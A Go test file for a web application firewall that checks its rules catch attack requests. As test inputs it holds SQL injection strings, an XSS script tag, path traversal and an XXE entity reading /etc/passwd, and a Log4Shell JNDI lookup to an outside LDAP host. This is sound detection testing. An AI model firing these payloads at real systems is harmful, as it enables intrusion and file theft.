package waf

import (
	"net/netip"
	"strings"
	"testing"

	"github.com/originward/originward/internal/edge/rules"
)

// lines are field lines as a visitor sends them.
type lines [][2]string

func (l lines) Len() int                      { return len(l) }
func (l lines) At(i int) (name, value []byte) { return []byte(l[i][0]), []byte(l[i][1]) }
func (l lines) Get(name string) []byte {
	for _, f := range l {
		if strings.EqualFold(f[0], name) {
			return []byte(f[1])
		}
	}
	return nil
}

func request(method, target string, more ...[2]string) *rules.Request {
	path, query, _ := strings.Cut(target, "?")
	if method == "POST" || method == "PUT" {
		more = append(more, [2]string{"Content-Length", "64"})
	}
	return &rules.Request{
		IP: netip.MustParseAddr("192.0.2.1"), ServerIP: netip.MustParseAddr("198.51.100.1"), Port: 443,
		Host: []byte("shop.example"), Method: []byte(method), Version: []byte("HTTP/1.1"), HTTPS: true,
		URI:     rules.URI{Target: []byte(target), Path: []byte(path), Query: []byte(query)},
		Headers: append(lines{{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"}, {"Accept", "text/html"}}, more...),
	}
}

func compiled(t testing.TB, s Settings) *Rules {
	t.Helper()
	w, err := New(s)
	if err != nil {
		t.Fatal(err)
	}
	return w
}

var (
	form = [2]string{"Content-Type", "application/x-www-form-urlencoded"}
	asks = [2]string{"Content-Type", "application/json"}
	part = [2]string{"Content-Type", "multipart/form-data; boundary=b"}
)

func TestJudge(t *testing.T) {
	w := compiled(t, Settings{Paranoia: 1})
	for name, c := range map[string]struct {
		req  *rules.Request
		body rules.Body
		rule string // "" = nothing is found
	}{
		"a page":               {request("GET", "/shop?size=10&colour=blue"), rules.Body{}, ""},
		"a form":               {request("POST", "/login", form), rules.Body{Bytes: []byte("user=anna&password=correct+horse")}, ""},
		"a JSON document":      {request("PUT", "/api/items/7", asks), rules.Body{Bytes: []byte(`{"name":"Chair","price":12.5}`)}, ""},
		"DELETE":               {request("DELETE", "/api/items/7"), rules.Body{}, ""},
		"SQL in the query":     {request("GET", "/?id=1%27%20OR%201%3D1--%20-"), rules.Body{}, "942100"},
		"SQL in a form":        {request("POST", "/login", form), rules.Body{Bytes: []byte("user=1%27%20OR%201%3D1--%20-")}, "942100"},
		"SQL in JSON":          {request("POST", "/api", asks), rules.Body{Bytes: []byte(`{"user":{"id":"1' OR 1=1-- -"}}`)}, "942100"},
		"a script in a part":   {request("POST", "/up", part), rules.Body{Bytes: []byte("--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n")}, "941100"},
		"a path out":           {request("GET", "/get?file=../../../../etc/passwd"), rules.Body{}, "930100"},
		"a scanner":            {request("GET", "/", [2]string{"User-Agent", "sqlmap/1.7"}), rules.Body{}, "913100"},
		"a cut form":           {request("POST", "/login", form), rules.Body{Bytes: []byte("user=1%27%20OR%201%3D1--%20-&rest=" + strings.Repeat("x", BodyLimit)[:BodyLimit-40]), Cut: true}, "942100"},
		"a log4j look-up":      {request("GET", "/", [2]string{"X-Api-Version", "${jndi:ldap://192.0.2.9/a}"}), rules.Body{}, "944150"},
		"a body of no meaning": {request("POST", "/up", asks), rules.Body{Bytes: []byte("\x00\xff{")}, ""},
	} {
		s := w.Judge(c.req, c.body)
		switch {
		case c.rule == "" && s.Total > 0:
			t.Errorf("%s: %+v, want nothing", name, s)
		case c.rule != "" && (s.Total < 5 || s.Count == 0):
			t.Errorf("%s: %+v, want rule %s", name, s, c.rule)
		case c.rule != "" && s.Rule[:3] != c.rule[:3]:
			t.Errorf("%s: rule %s, want one of the kind of %s", name, s.Rule, c.rule)
		}
	}
}

func TestSettings(t *testing.T) {
	quoted := request("GET", "/?q=1%27%20OR%201%3D1--%20-")
	all := compiled(t, Settings{Paranoia: 1}).Judge(quoted, rules.Body{})
	if all.Rule != "942100" {
		t.Fatalf("rule %+v, want 942100", all)
	}
	if s := compiled(t, Settings{Paranoia: 1, Disabled: "942100"}).Judge(quoted, rules.Body{}); s.Rule == "942100" || s.Total >= all.Total {
		t.Errorf("with 942100 left out: %+v, as much as with it: %+v", s, all)
	}
	if s := compiled(t, Settings{Paranoia: 4}).Judge(quoted, rules.Body{}); s.Total <= all.Total {
		t.Errorf("at paranoia 4: %+v, no more than at 1: %+v", s, all)
	}
}

func BenchmarkJudge(b *testing.B) {
	w := compiled(b, Settings{Paranoia: 1})
	r := request("GET", "/shop?size=10&colour=blue")
	b.ReportAllocs()
	for b.Loop() {
		w.Judge(r, rules.Body{})
	}
}

// FuzzJudge holds that no request makes the rule set fail.
func FuzzJudge(f *testing.F) {
	w := compiled(f, Settings{Paranoia: 2})
	f.Add("/?a=1", "application/json", []byte(`{"a":1}`), false)
	f.Add("/%00?%", "multipart/form-data; boundary=b", []byte("--b\r\nContent-Disposition: form-data; name=a\r\n\r\nx"), true)
	f.Add("/x", "text/xml; charset=utf-7", []byte("<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"), false)
	f.Fuzz(func(t *testing.T, target, kind string, body []byte, cut bool) {
		s := w.Judge(request("POST", target, [2]string{"Content-Type", kind}), rules.Body{Bytes: body, Cut: cut})
		if s.Total < 0 || s.Count < 0 || len(s.What) > 2*maxMessage {
			t.Errorf("%+v", s)
		}
	})
}

// The largest body that is looked at is the dearest request there is.
func BenchmarkJudgeLargest(b *testing.B) {
	w := compiled(b, Settings{Paranoia: 1})
	r := request("POST", "/form", form)
	body := rules.Body{Bytes: []byte("text=" + strings.Repeat("0123456789abcde+", BodyLimit/16)[:BodyLimit-5]), Cut: true}
	for b.Loop() {
		w.Judge(r, body)
	}
}
